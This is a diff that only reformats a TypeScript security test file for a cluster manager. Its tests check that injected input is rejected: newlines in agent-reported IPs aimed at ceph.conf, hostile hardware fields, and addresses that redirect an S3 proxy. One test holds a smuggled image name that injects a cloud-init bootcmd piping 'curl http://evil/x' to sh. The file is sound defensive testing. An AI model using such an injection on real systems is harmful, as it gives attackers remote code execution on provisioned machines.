@@ -28,7 +28,11 @@ test('attack an agent reporting an ip with a newline to add a ceph.conf option i
   const q = await startLab(t, 0);
   const a = await activeAgent(q, 1);
   const c = await admin(q);
-  const disk = await waitFor('an eligible disk', async () => ((await c.get('/disks')).json as Array<{ id: string; nodeId: string; eligible: boolean }>).find((d) => d.nodeId === a.nodeId && d.eligible));
+  const disk = await waitFor('an eligible disk', async () =>
+    ((await c.get('/disks')).json as Array<{ id: string; nodeId: string; eligible: boolean }>).find(
+      (d) => d.nodeId === a.nodeId && d.eligible,
+    ),
+  );
   t.is((await c.post('/ceph/mon/create', { nodeId: a.nodeId, diskId: disk.id })).status, 200);
   const conf = async () => Buffer.from((await c.get<{ config: string }>('/ceph/cluster/config')).json.config, 'base64').toString('utf8');
   const before = await waitFor('the monitor in mon_host', async () => {
@@ -41,7 +45,10 @@ test('attack an agent reporting an ip with a newline to add a ceph.conf option i
     const r = await a.client.post<ProblemBody>('/node/hardware', { ...hardware(1), ip });
     t.is(r.status, 400, JSON.stringify(ip));
     t.is(r.json.code, 'VALIDATION_FAILED');
-    t.true(r.json.errors.some((e) => e.path === '/body/ip'), JSON.stringify(r.json.errors));
+    t.true(
+      r.json.errors.some((e) => e.path === '/body/ip'),
+      JSON.stringify(r.json.errors),
+    );
     const nic = await a.client.post('/node/hardware', { ...hardware(1), nics: [{ ...hardware(1).nics[0]!, ip }] });
     t.is(nic.status, 400, `nic ${JSON.stringify(ip)}`);
   }
@@ -71,16 +78,30 @@ test('attack an agent reporting hostile hardware fields (device path, hostname, 
     const r = await a.client.post<ProblemBody>('/node/hardware', body);
     t.is(r.status, 400, what);
     t.is(r.json.code, 'VALIDATION_FAILED', what);
-    t.true(r.json.errors.some((e) => e.path === field), `${what}: ${JSON.stringify(r.json.errors).slice(0, 300)}`);
+    t.true(
+      r.json.errors.some((e) => e.path === field),
+      `${what}: ${JSON.stringify(r.json.errors).slice(0, 300)}`,
+    );
   }
   t.deepEqual(q.fleet.observe(a.nodeId).report, good, 'nothing changed');
 });
 
 test('attack a registry catalog with a newline in an image name to add bootcmd to cloud-init is refused', async (t) => {
   const ID = '7c1d5e2a-3b4f-4a6c-8d9e-0f1a2b3c4d5e';
-  const server = await serveImages(t, [{ id: ID, name: 'debian-12', files: [{ name: 'vmlinuz', content: bytesOf('k', 64) }, { name: 'initrd.img', content: bytesOf('i', 64) }] }]);
+  const server = await serveImages(t, [
+    {
+      id: ID,
+      name: 'debian-12',
+      files: [
+        { name: 'vmlinuz', content: bytesOf('k', 64) },
+        { name: 'initrd.img', content: bytesOf('i', 64) },
+      ],
+    },
+  ]);
   const catalog = JSON.parse(await (await fetch(server.url)).text()) as Array<Record<string, unknown>>;
-  server.catalogBody = JSON.stringify(catalog.map((e) => ({ ...e, name: 'debian-12\nbootcmd:\n  - [ sh, -c, "curl http://evil/x | sh" ]' })));
+  server.catalogBody = JSON.stringify(
+    catalog.map((e) => ({ ...e, name: 'debian-12\nbootcmd:\n  - [ sh, -c, "curl http://evil/x | sh" ]' })),
+  );
   const q = await startLab(t, 0, { env: { IMAGE_REGISTRY: server.url } });
   const c = await admin(q);
   const offered = await c.get<ProblemBody>('/images/available');
@@ -111,7 +132,11 @@ test('attack an agent reporting an ip that points the S3 proxy elsewhere does no
   t.is((await c.post('/gateways/rgw/deploy', { nodeId: a.nodeId })).status, 200);
   // A path or a host:port in the address never gets in.
   for (const ip of ['127.0.0.1:9000/steal?', 'evil.example', '203.0.113.9/#']) {
-    const r = await a.client.post('/node/hardware', { ...hardware(3), ip, daemons: { mon: false, mgr: false, mds: false, rgw: true, osds: [] } });
+    const r = await a.client.post('/node/hardware', {
+      ...hardware(3),
+      ip,
+      daemons: { mon: false, mgr: false, mds: false, rgw: true, osds: [] },
+    });
     t.is(r.status, 400, ip);
   }
   // The agent's claim (203.0.113.9) is shown as its address, but the proxy goes where the master
